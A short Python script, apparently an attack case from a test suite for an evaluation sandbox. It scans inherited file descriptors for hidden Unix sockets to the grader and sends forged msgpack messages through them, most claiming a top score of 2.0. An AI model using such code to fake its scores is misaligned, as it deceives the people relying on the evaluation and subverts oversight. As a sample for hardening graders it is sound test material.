"""Looks for the link to the grader by its number, and sends scores there.

They arrive at the grader, or at the kernel itself, which may then wait for ever.
"""

# /// attack
# problems_one_of = ["protocol", "kernel", "time-limit"]
# ///

# %% before
import os, socket, struct, threading, msgpack
found = []
for number in range(3, 512):
    try:
        candidate = socket.socket(fileno=os.dup(number))
        if candidate.family == socket.AF_UNIX and candidate.getpeername() == "":
            if candidate.getsockname() == "" and candidate.type & socket.SOCK_STREAM:
                found.append(candidate)
    except OSError:
        pass
answers = [
    ["scores", {"test_double": 2.0}], {"outputs": [], "gone": None}, ["value", 2.0, [0], [0]],
    ["execute_result", "2.0"], 2.0, "2.0", [], [[]], ["ended"], ["verdict", 2.0],
]
sent = 0
for candidate in found:
    for answer in answers:
        head = msgpack.packb(answer)
        candidate.sendall(struct.pack(">II", len(head), 0) + head)
        sent += 1
print("sent", sent, "to", len(found))
